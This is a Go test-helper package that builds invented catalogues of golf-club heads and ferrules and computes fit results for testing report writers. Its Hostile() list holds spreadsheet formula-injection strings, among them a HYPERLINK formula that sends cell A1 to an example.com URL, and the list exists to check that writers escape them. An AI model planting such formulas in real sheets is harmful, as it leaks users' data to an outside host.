// Package telltest makes results for the tests of the writers. Its shop, suppliers and part numbers are invented.
package telltest

import (
	"fmt"
	"slices"
	"testing"

	"example.com/seatline/fitcalc"
	"example.com/seatline/fitcalc/measure"
	"example.com/seatline/reconcile/catalog"
	"example.com/seatline/reconcile/finding"
	"example.com/seatline/reconcile/matrix"
	"example.com/seatline/reconcile/samples"
	"example.com/seatline/reconcile/sheet"
	"example.com/seatline/reconcile/sheet/sheettest"
)

// Hostile are texts that a sheet may hold and that must come out as text: formulas, characters that are none, and one that is too
// long for a cell.
func Hostile() []string {
	return []string{
		`=HYPERLINK("http://example.com/?"&A1,"click")`,
		"+1+1",
		"-1-1",
		"@SUM(A1:A9)",
		"\t=1+1",
		"\r=1+1",
		" =1+1",
		"＝1+1",
		`say "=1", then`,
		"two\nlines",
		"bell\aand\x00nul",
		"_x0041_ as written",
		"bad \xff byte",
	}
}

// Small returns a result with a bit of everything: pairs of each verdict, heads that are served, undecided, unserved and bare,
// unused ferrules, assumptions, findings and a setting that is not the default.
func Small(t testing.TB) *matrix.Result {
	t.Helper()
	return matrix.Decide(small(t), smallShop(t))
}

// SmallAll is Small with every pair in reach listed.
func SmallAll(t testing.TB) *matrix.Result {
	t.Helper()
	return matrix.DecideAll(small(t), smallShop(t))
}

func smallShop(t testing.TB) fitcalc.Shop {
	shop := fitcalc.DefaultShop()
	if err := shop.Set("turn_limit", ".035 in"); err != nil {
		t.Fatal(err)
	}
	return shop
}

// Measured is the small result after readings: of a hosel, of five ferrules' bases, from which the spread of the others is learned, and
// of a part that no sheet lists.
func Measured(t testing.TB) *matrix.Result {
	t.Helper()
	book := sheettest.Book("readings.csv", "", "Part | Reading 1 (in) | Reading 2 (in) | Reading 3 (in)",
		"TF-610 | .499 | .4995 | .500", "HM-20 | .505 | .5055 | .506", "HM-21 | .515 | .5155 | .516", "HM-22 | .520 | .5205 | .521",
		"HM-C5 | .5115 | .512 | .5125", "HM-S1 | .510 | .5105 | .511", "HM-99 | .510 | .510 | .510")
	c := samples.Apply(small(t), []*sheet.Book{book}, samples.Options{Shop: fitcalc.DefaultShop()})
	return matrix.Decide(c, fitcalc.DefaultShop())
}

func small(t testing.TB) *catalog.Catalogue {
	b := &builder{t: t, catalogue: &catalog.Catalogue{}}
	b.head("TF-610", "Tarrow 610 iron, forged", fitcalc.Iron, fitcalc.Head{
		HoselOD: b.dim(".500 ±.001 in"), Bore: b.dim(".374 in"), BoreDepth: b.dim("1.25 in"), HoselLength: b.dim("2.5 in"), Top: fitcalc.TopFlat,
	})
	b.head("TF-640", "Tarrow 640 iron, cast", fitcalc.Iron, fitcalc.Head{
		HoselOD: b.dim(".510 ±.002 in"), Bore: b.dim(".358 in"), BoreForm: fitcalc.BoreTapered, BoreDepth: b.dim("1.5 in"), Top: fitcalc.TopFlat,
	})
	b.head("TF-900", "Tarrow 900 wedge", fitcalc.Wedge, fitcalc.Head{
		HoselOD: b.dim("12.7 mm"), Bore: b.dim("9.5 mm"), BoreDepth: b.dim("32 mm"), Top: fitcalc.TopCountersunk,
		Countersink: fitcalc.Countersink{Mouth: b.dim("10.2 mm"), Angle: measure.Degrees(60)},
	})
	b.head("QM-1W", "Quillmere one, driver with sleeve", fitcalc.Driver, fitcalc.Head{
		Bore: b.dim(".339 in"), Top: fitcalc.TopFlat,
		Adapter: fitcalc.Adapter{TopOD: b.dim(".450 in"), Bore: b.dim(".338 in"), BoreDepth: b.dim("1.1 in")},
	})
	b.head("QM-P2", "Quillmere blade putter", fitcalc.Putter, fitcalc.Head{
		HoselOD: b.dim(".520 in"), Bore: b.dim(".374 in"), Top: fitcalc.TopRounded,
	})
	b.head("QM-5H", "Quillmere hybrid, hosel not stated", fitcalc.Hybrid, fitcalc.Head{
		Bore: b.dim(".374 in"), BoreDepth: b.dim("1.25 in"), Top: fitcalc.TopFlat,
	})
	b.head("OB-77", "Obrist wide-neck putter", fitcalc.Putter, fitcalc.Head{
		HoselOD: b.dim(".560 in"), Bore: b.dim(".399 in"), BoreDepth: b.dim("1.25 in"), Top: fitcalc.TopFlat,
	})
	b.head("OB-31", "Obrist counterbored wedge", fitcalc.Wedge, fitcalc.Head{
		HoselOD: b.dim(".500 in"), Bore: b.dim(".374 in"), BoreDepth: b.dim("1.4 in"), Top: fitcalc.TopCounterbored,
		Counterbore: fitcalc.Counterbore{Diameter: b.dim(".420 in"), Depth: b.dim(".200 in")},
	})
	b.assume(&b.catalogue.Heads[2].Item, "unit of hosel OD taken as mm: the heading says so")

	b.ferrule("HM-20", "half inch, black", fitcalc.Ferrule{Bore: b.dim(".368 in"), BaseOD: b.dim(".505 in"), Length: b.dim(".5 in"), Style: fitcalc.Plain})
	b.ferrule("HM-21", "half inch, black, full base", fitcalc.Ferrule{Bore: b.dim(".368 in"), BaseOD: b.dim(".515 in"), Length: b.dim(".5 in"), Style: fitcalc.Plain})
	b.ferrule("HM-22", "one inch with two rings", fitcalc.Ferrule{Bore: b.dim(".368 in"), BaseOD: b.dim(".520 in"), Length: b.dim("1 in"), Style: fitcalc.Plain,
		Rings: 2, RingDepth: b.dim(".020 in"), RingHeight: b.dim(".5 in")})
	b.ferrule("HM-C5", "collared", fitcalc.Ferrule{Bore: b.dim("9.35 mm"), BaseOD: b.dim("13.0 mm"), Length: b.dim("14 mm"), Style: fitcalc.Collared,
		Collar: fitcalc.Spigot{OD: b.dim("10.0 mm"), Length: b.dim("0.6 mm")}})
	b.ferrule("HM-S1", "stepped", fitcalc.Ferrule{Bore: b.dim(".368 in"), BaseOD: b.dim(".510 in"), Length: b.dim(".75 in"), Style: fitcalc.Stepped,
		Step: fitcalc.Spigot{OD: b.dim(".410 in"), Length: b.dim(".180 in")}})
	b.ferrule("HM-35", "for .335 tips", fitcalc.Ferrule{Bore: b.dim(".333 in"), BaseOD: b.dim(".462 in"), Length: b.dim(".5 in")})
	b.ferrule("VB-09", "exact to the hosel", fitcalc.Ferrule{Bore: b.dim(".368 ±.0005 in"), BaseOD: b.dim(".501 ±.001 in"), Length: b.dim("3/8 in"), Style: fitcalc.Plain})
	b.ferrule("VB-44", "wide bore", fitcalc.Ferrule{Bore: b.dim(".395 in"), BaseOD: b.dim(".505 in"), Length: b.dim(".5 in"), Style: fitcalc.Plain})
	b.ferrule("VB-60", "base OD to be asked", fitcalc.Ferrule{Bore: b.dim(".368 in"), Length: b.dim(".5 in"), Style: fitcalc.Plain})
	b.tables()
	return b.catalogue
}

// Awkward is the small result with the hostile texts as part, description and supplier of its parts, and in its findings.
func Awkward(t testing.TB) *matrix.Result {
	t.Helper()
	c := small(t)
	for i, text := range Hostile() {
		c.Heads[i%len(c.Heads)].Part = text
		c.Ferrules[i%len(c.Ferrules)].Description = text
		head, ferrule := c.Heads[0], c.Ferrules[0]
		head.Part, head.Description, head.Supplier = text, text, text
		ferrule.Part, ferrule.Description, ferrule.Supplier = text, text, text
		head.Source.Row, ferrule.Source.Row = 100+i, 100+i
		c.Heads, c.Ferrules = append(c.Heads, head), append(c.Ferrules, ferrule)
		c.Findings.Add(finding.Finding{Severity: finding.Warning, Code: "data.unreadable", Message: text, Settle: text,
			Place: finding.Place{File: "heads.xlsx", Sheet: text, Row: 100 + i, Cell: "B7"}})
	}
	return matrix.Decide(c, fitcalc.DefaultShop())
}

// Set returns a result of a set of seven irons of one geometry and an iron of another, and of a ferrule in two colours.
func Set(t testing.TB) *matrix.Result {
	t.Helper()
	b := &builder{t: t, catalogue: &catalog.Catalogue{}}
	head := fitcalc.Head{HoselOD: b.dim(".500 in"), Bore: b.dim(".374 in"), BoreDepth: b.dim("1.25 in"), Top: fitcalc.TopFlat}
	for _, club := range []string{"4", "5", "6", "7", "8", "9", "PW"} {
		b.head("OB-1-"+club, "Obrist iron", fitcalc.Iron, head)
	}
	head.HoselOD = b.dim(".505 in")
	b.head("OB-2-4", "Obrist iron, wider", fitcalc.Iron, head)
	for _, colour := range []string{"BK", "RD"} {
		b.ferrule("HM-1-"+colour, "half inch", fitcalc.Ferrule{Bore: b.dim(".368 in"), BaseOD: b.dim(".512 in"), Length: b.dim(".5 in"), Style: fitcalc.Plain})
	}
	return matrix.Decide(b.catalogue, fitcalc.DefaultShop())
}

// Large returns a result of many pairs: heads and ferrules of a few hundred sizes, in two bores.
func Large(t testing.TB, heads, ferrules int) *matrix.Result {
	t.Helper()
	b := &builder{t: t, catalogue: &catalog.Catalogue{}}
	for i := range heads {
		b.head(fmt.Sprintf("LH-%05d", i), "iron of a large catalogue", fitcalc.Iron, fitcalc.Head{
			HoselOD: measure.Nominal(measure.Thou(int64(490 + i%37))), Bore: measure.Nominal(measure.Thou(374)),
			BoreDepth: measure.Nominal(measure.Inches(1)), Top: fitcalc.TopFlat,
		})
	}
	for i := range ferrules {
		b.ferrule(fmt.Sprintf("LF-%05d", i), "ferrule of a large catalogue", fitcalc.Ferrule{
			Bore: measure.Nominal(measure.Thou(int64(365 + i%5))), BaseOD: measure.Nominal(measure.Thou(int64(480 + i%71))),
			Length: measure.Nominal(measure.Thou(int64(375 + 125*(i%4)))), Style: fitcalc.Plain,
		})
	}
	b.tables()
	return matrix.Decide(b.catalogue, fitcalc.DefaultShop())
}

// OnlyBest returns a result of parts of which several have one geometry, with the best ferrule of each head and the best head of each
// ferrule listed.
func OnlyBest(t testing.TB) *matrix.Result {
	t.Helper()
	return matrix.DecideBy(Large(t, 60, 80).Catalogue, fitcalc.DefaultShop(), matrix.Options{Best: 1})
}

// ByTip returns a result with ferrules added that are known by the tip they are for and not by their bore: BT-370, BT-355 and, for a
// tip that no head takes, BT-395.
func ByTip(t testing.TB, r *matrix.Result) *matrix.Result {
	t.Helper()
	c := *r.Catalogue
	b := builder{t: t, catalogue: &c}
	c.Ferrules = slices.Clip(c.Ferrules)
	for _, tip := range []struct{ part, size, base string }{{"BT-370", ".370", ".520 in"}, {"BT-355", ".355 taper", ".512 in"}, {"BT-395", ".395", ".520 in"}} {
		size, err := fitcalc.ParseTipSize(tip.size)
		if err != nil {
			t.Fatal(err)
		}
		b.ferrule(tip.part, "listed by its tip", fitcalc.Ferrule{ForTip: size, BaseOD: b.dim(tip.base), Length: b.dim(".75 in"), Style: fitcalc.Plain})
	}
	return matrix.Decide(&c, r.Shop)
}

// Empty returns the result of a catalogue without any part.
func Empty() *matrix.Result {
	return matrix.Decide(&catalog.Catalogue{}, fitcalc.DefaultShop())
}

// builder fills a catalogue.
type builder struct {
	t         testing.TB
	catalogue *catalog.Catalogue
}

func (b *builder) dim(text string) measure.Dim {
	b.t.Helper()
	d, err := measure.ParseDim(text)
	if err != nil {
		b.t.Fatal(err)
	}
	return d
}

func (b *builder) head(part, description string, category fitcalc.Category, head fitcalc.Head) {
	head.Category = category
	row := len(b.catalogue.Heads) + 4
	b.catalogue.Heads = append(b.catalogue.Heads, catalog.Head{
		Item: catalog.Item{
			Part: part, Description: description, Supplier: "Tarrow Foundry",
			Source: catalog.Source{File: "heads.xlsx", Sheet: "Heads 2026", Row: row},
			Fields: catalog.FieldsOf(map[catalog.Role]catalog.Field{
				catalog.HoselOD: {Dim: head.HoselOD, Cell: fmt.Sprintf("D%d", row)},
				catalog.Bore:    {Dim: head.Bore, Cell: fmt.Sprintf("E%d", row)},
			}),
		},
		Category: category, Head: head,
	})
}

func (b *builder) ferrule(part, description string, ferrule fitcalc.Ferrule) {
	row := len(b.catalogue.Ferrules) + 2
	b.catalogue.Ferrules = append(b.catalogue.Ferrules, catalog.Ferrule{
		Item: catalog.Item{
			Part: part, Description: description, Supplier: "Hollin Mouldings",
			Source: catalog.Source{File: "ferrules.csv", Row: row},
			Fields: catalog.FieldsOf(map[catalog.Role]catalog.Field{
				catalog.BaseOD: {Dim: ferrule.BaseOD, Cell: fmt.Sprintf("C%d", row)},
				catalog.Bore:   {Dim: ferrule.Bore, Cell: fmt.Sprintf("B%d", row)},
			}),
		},
		Ferrule: ferrule,
	})
}

func (b *builder) assume(item *catalog.Item, code string) {
	item.Assumptions = append(item.Assumptions, code)
}

// tables gives the catalogue tables and findings that agree with its parts.
func (b *builder) tables() {
	c := b.catalogue
	ledger := func(items, assumed int) catalog.Ledger {
		return catalog.Ledger{Rows: items + 5, Used: items - assumed, Assumed: assumed, Held: 1, SetAside: 4}
	}
	assumed := 0
	for i := range c.Heads {
		if len(c.Heads[i].Assumptions) > 0 {
			assumed++
		}
	}
	c.Tables = []catalog.Table{
		{File: "heads.xlsx", Sheet: "Heads 2026", Kind: catalog.Heads, Ledger: ledger(len(c.Heads), assumed)},
		{File: "ferrules.csv", Kind: catalog.Ferrules, Ledger: ledger(len(c.Ferrules), 0)},
	}
	c.Findings = finding.List{
		{Severity: finding.Note, Code: "data.unit", Place: finding.Place{File: "heads.xlsx", Sheet: "Heads 2026", Row: 6, Cell: "D6"},
			Message: "12.7 is read as millimetres: the heading says mm", Settle: "columns.D.unit"},
		{Severity: finding.Error, Code: "data.missing", Place: finding.Place{File: "heads.xlsx", Sheet: "Heads 2026", Row: 9},
			Message: "QM-5H has no hosel OD: 8 pairs cannot be decided"},
		{Severity: finding.Warning, Code: "data.conflict", Place: finding.Place{File: "ferrules.csv", Row: 10, Cell: "C10"},
			Related: []finding.Place{{File: "ferrules.csv", Row: 8, Cell: "C8"}},
			Message: "VB-60 has no base OD here and .501 in on row 8", Settle: "rows.10"},
	}
	for i := range c.Tables {
		for _, f := range c.Findings {
			if f.Place.File == c.Tables[i].File {
				c.Tables[i].Findings.Add(f)
			}
		}
	}
}
